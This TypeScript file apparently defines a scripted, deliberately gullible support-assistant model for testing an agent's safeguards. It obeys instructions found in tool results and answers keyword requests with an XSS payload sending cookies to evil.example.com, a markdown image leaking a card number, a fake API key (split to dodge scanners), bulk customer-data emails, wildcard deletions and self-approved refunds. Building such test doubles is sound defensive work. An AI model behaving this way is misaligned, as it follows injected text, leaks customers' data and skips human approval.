import { Model, type Message, type ModelStep } from './model.js';
import type { Customer } from './order-book.js';

interface Intent {
  readonly heard: RegExp;
  readonly does: (text: string, customers: readonly Customer[]) => ModelStep;
}

/**
 * An obliging model that needs no network: it goes by keywords, believes everyone, and obeys whatever it reads, in the
 * result of a tool as well. It is the assistant that one hopes not to have, and has to reckon with.
 */
export class ScriptedModel extends Model {
  constructor(private readonly customers: readonly Customer[]) {
    super();
  }

  override next(conversation: readonly Message[]): ModelStep {
    const last = conversation.at(-1);
    if (last === undefined) return HELP;
    if (last.from === 'customer') return this.obey(last.text) ?? HELP;
    const instruction = INSTRUCTION.exec(last.text)?.[0];
    const order = instruction === undefined ? null : this.obey(instruction);
    return (
      order ??
      answer(last.tool === 'lookup_order' ? `Here is what I found. ${last.text}` : `Done. ${last.text}`)
    );
  }

  private obey(text: string): ModelStep | null {
    return INTENTS.find(({ heard }) => heard.test(text))?.does(text, this.customers) ?? null;
  }
}

/** Where a tool's result speaks to the model, the model listens. */
const INSTRUCTION = /\b(?:ignore|disregard|instead|now)\b.*/is;

const INTENTS: readonly Intent[] = [
  {
    heard: /\b(?:html|script|web ?page)\b/i,
    does: () =>
      answer(
        'Here is your page:\n<h1>Your orders</h1>\n<script>fetch("https://evil.example.com/?c=" + document.cookie)</script>\n' +
          '<img src="x" onerror="alert(1)">',
      ),
  },
  {
    heard: /\b(?:api|secret|access) ?keys?\b|\bcredentials\b/i,
    does: () => answer(`Of course. We pay with the key ${PAYMENT_KEY}. Please keep it to yourself.`),
  },
  {
    heard: /\b(?:image|picture|logo|receipt)\b/i,
    does: () =>
      answer(
        'Your receipt:\n\n![receipt](https://evil.example.com/collect?order=A-1182&card=4111111111111111)\n\n' +
          '[Open it](javascript:alert(document.cookie))',
      ),
  },
  {
    heard: /\b(?:e-?mail|send|forward)\b[^]*?\S+@\S+/i,
    does: (text, customers) => ({
      kind: 'call',
      tool: 'send_email',
      arguments: {
        to: ADDRESS.exec(text)?.[0] ?? '',
        subject: /list/i.test(text) ? 'Our customers' : 'From your support',
        body: /list|customers|everyone/i.test(text) ? listOf(customers) : 'As you asked.',
      },
    }),
  },
  {
    heard: /\b(?:delete|erase|remove)\b/i,
    does: (text) => ({
      kind: 'call',
      tool: 'delete_record',
      arguments: { order_id: orderIn(text) ?? '*', customer_id: customerIn(text) },
    }),
  },
  {
    heard: /\b(?:refund|pay\b.*\bback|money back)\b/i,
    does: (text) => ({
      kind: 'call',
      tool: 'refund',
      arguments: {
        order_id: orderIn(text) ?? 'A-1182',
        euros: amountIn(text) ?? 129,
        customer_id: customerIn(text),
        ...(/without (?:any )?approval|already approved/i.test(text) ? { approved: true } : {}),
      },
    }),
  },
  {
    heard: /\b(?:phone|address|customers|contact)\b/i,
    does: (_, customers) => answer(`These are our customers.\n${listOf(customers)}`),
  },
  {
    heard: /\b(?:orders?|parcel|delivery|[A-Z]-\d{4})\b/i,
    does: (text) => ({
      kind: 'call',
      tool: 'lookup_order',
      arguments: { order_id: orderIn(text) ?? 'A-1182', customer_id: customerIn(text) },
    }),
  },
  {
    heard: /\b(?:hello|hi|good (?:morning|evening))\b/i,
    does: () => answer('Hello! What can I do for you?'),
  },
  { heard: /\bthank/i, does: () => answer('You are welcome.') },
];

const HELP = answer('I can look up an order, pay it back, delete its record, or send an email.');

/** Shaped like a real one, and worth nothing; in two parts, so that no scanner of source code takes it for one. */
const PAYMENT_KEY = ['AKIA', 'QYLPMN5HHHFPZAM2'].join('');

const ADDRESS = /[^\s@<>()]+@[^\s@<>(),;]*[a-z]/i;

function answer(text: string): ModelStep {
  return { kind: 'answer', text };
}

function orderIn(text: string): string | null {
  return /\b[A-Z]-\d{4}\b/i.exec(text)?.[0].toUpperCase() ?? null;
}

function amountIn(text: string): number | null {
  const [, amount] = /(-?\d+(?:\.\d+)?) ?(?:€|euros?)/i.exec(text) ?? [];
  return amount === undefined ? null : Number(amount);
}

/** The model takes anyone's word for who they are. */
function customerIn(text: string): string {
  const [, number] = /\bcustomer(?:[_ -]id)?[ :=-]*(\d+)\b/i.exec(text) ?? [];
  return `customer-${number ?? '42'}`;
}

function listOf(customers: readonly Customer[]): string {
  return customers.map(({ name, email, phone }) => `- ${name}, ${email}, ${phone}`).join('\n');
}
